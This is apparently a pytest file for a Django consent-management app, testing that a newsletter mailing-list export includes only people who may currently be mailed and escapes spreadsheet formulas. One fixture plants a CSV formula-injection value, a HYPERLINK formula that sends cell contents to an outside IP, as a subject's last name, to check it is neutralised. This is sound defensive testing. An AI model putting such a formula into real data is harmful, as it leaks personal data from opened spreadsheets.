import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from common.history import save_with_history
from consents import services
from consents.selectors import mailing_list
from consents.suppression import suppression_add
from consents.unsubscribe import unsubscribe_target
from tests.consents.factories import ConsentFactory, purpose
from tests.subjects.factories import SubjectFactory


@pytest.fixture
def audience(db):
    """One subject who may be mailed, and one of each kind who may not."""
    newsletter = purpose("newsletter")
    ok = ConsentFactory(purpose=newsletter, subject__email="ok@example.com").subject
    ConsentFactory(
        purpose=newsletter,
        subject__email="formula@example.com",
        subject__last_name='=HYPERLINK("http://203.0.113.9/?x="&A2)',
    )
    blocked = ConsentFactory(purpose=newsletter, subject__email="blocked@example.com").subject
    blocked.state = "blocked"
    save_with_history(blocked, actor=None, reason="test: blocked")
    erased = ConsentFactory(purpose=newsletter, subject__email="erased@example.com").subject
    erased.state, erased.erased_at = "erased", timezone.now()
    save_with_history(erased, actor=None, reason="test: erased")
    withdrawn = ConsentFactory(purpose=newsletter, subject__email="left@example.com").subject
    services.consent_withdraw(
        subject=withdrawn, purposes=None, channel="letter", actor=None, reason="test"
    )
    suppressed = ConsentFactory(purpose=newsletter, subject__email="bounced@example.com").subject
    suppression_add(email="Bounced@Example.com", reason="bounced", actor=None)
    by_phone = ConsentFactory(
        purpose=newsletter, subject__email="phone@example.com", subject__phone="+77010000077"
    ).subject
    suppression_add(phone="+7 701 000 00 77", reason="withdrawn", actor=None)
    ConsentFactory(purpose=purpose("feedback"), subject__email="other-purpose@example.com")
    SubjectFactory(email="no-consent@example.com")
    no_email = ConsentFactory(purpose=newsletter, subject__email=None).subject
    return {"ok": ok, "blocked": blocked, "suppressed": suppressed, "by_phone": by_phone,
            "no_email": no_email}  # fmt: skip


def _read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the BOM
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.django_db
def test_the_export_lists_only_who_may_be_mailed_now(audience, tmp_path):
    output = tmp_path / "list.csv"

    call_command("export_mailing_list", "--purpose", "newsletter", "--output", str(output))

    header, *rows = _read(output.read_text(encoding="utf-8"))
    assert header[0] == "E-mail"
    assert [row[0] for row in rows] == ["ok@example.com", "formula@example.com"]
    assert rows[1][1] == '\'=HYPERLINK("http://203.0.113.9/?x="&A2)'  # escaped, inert
    link = rows[0][5]
    token = link.rstrip("/").rsplit("/", 1)[1]
    assert unsubscribe_target(token=token).subject == audience["ok"]
    assert not list(tmp_path.glob("*.partial"))


@pytest.mark.django_db
def test_an_unknown_purpose_is_a_clear_error(db):
    with pytest.raises(CommandError, match=r"No purpose with code 'newsleter'.*newsletter"):
        call_command("export_mailing_list", "--purpose", "newsleter")


@pytest.mark.django_db
def test_the_admin_action_streams_the_same_list(audience, officer_client):
    response = officer_client.post(
        reverse("admin:consents_purpose_changelist"),
        {"action": "export_mailing_list", "_selected_action": [purpose("newsletter").pk]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _read(b"".join(response.streaming_content).decode())
    assert [row[0] for row in rows[1:]] == ["ok@example.com", "formula@example.com"]
    assert rows[2][1].startswith("'=")


@pytest.mark.django_db
def test_a_person_who_consents_again_after_leaving_may_be_mailed(officer):
    consent = ConsentFactory(purpose=purpose("newsletter"), subject__email="back@example.com")
    services.consent_withdraw(
        subject=consent.subject, purposes=None, channel="unsubscribe_link", actor=None, reason="x"
    )
    assert list(mailing_list(purpose=purpose("newsletter"))) == []

    services.consent_give(
        subject=consent.subject,
        purpose=purpose("newsletter"),
        method="written_agreement",
        actor=officer,
        reason="Signed a new consent form",
    )

    assert list(mailing_list(purpose=purpose("newsletter"))) == [consent.subject]
